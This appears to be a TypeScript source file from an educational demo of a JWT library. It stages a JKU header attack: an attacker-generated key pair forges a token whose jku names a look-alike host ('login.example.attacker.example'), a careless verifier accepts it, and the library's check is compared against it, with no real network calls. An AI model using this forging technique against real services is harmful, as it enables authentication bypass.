import { exportPublicJwk, generateKeyPair } from '@signet/token/keys';
import { signToken } from '@signet/token/sign';
import { askSignet } from './ask-signet.ts';
import type { AttackRun } from './attack.ts';
import { type FetchKeys, verifyCarelessly } from './careless-jku.ts';
import { honestClaims, type Scene, wishedClaims } from './scene.ts';

const honestAddress = 'https://login.example/jwks.json';
const attackersAddress = 'https://login.example.attacker.example/jwks.json';

/** The token names the address of its key set; the attacker's begins like the issuer's. */
export async function attackJku(scene: Scene): Promise<AttackRun> {
  const [issuers, attackers] = await Promise.all([
    generateKeyPair('ES256', 'orders-1'),
    generateKeyPair('ES256', 'orders-1'),
  ]);
  const header = { jku: honestAddress };
  const honest = await signToken(honestClaims(scene), { key: issuers.signing, type: 'JWT', header });
  const [honestKey, attackersKey] = await Promise.all([
    exportPublicJwk(issuers.verification),
    exportPublicJwk(attackers.verification),
  ]);
  // No network: a table inside the page answers as two hosts would.
  const hosts = new Map([
    [honestAddress, { keys: [honestKey] }],
    [attackersAddress, { keys: [attackersKey] }],
  ]);
  const fetchKeys: FetchKeys = (url) => hosts.get(url);
  const forgedHeader = { jku: attackersAddress };
  const forged = await signToken(wishedClaims(scene), {
    key: attackers.signing,
    type: 'JWT',
    header: forgedHeader,
  });
  return {
    steps: [
      { name: 'honest', exhibit: { kind: 'token', token: honest } },
      { name: 'keys', exhibit: { kind: 'text', text: JSON.stringify({ keys: [attackersKey] }, null, 2) } },
      { name: 'header', exhibit: { kind: 'text', text: JSON.stringify(forgedHeader) } },
      { name: 'forged', exhibit: { kind: 'token', token: forged } },
    ],
    trials: [
      {
        name: 'forged',
        token: forged,
        careless: await verifyCarelessly(forged, fetchKeys),
        ours: await askSignet(forged, [issuers.verification], scene),
      },
    ],
    forDebugger: { token: forged, publicKey: JSON.stringify(honestKey, null, 2) },
  };
}
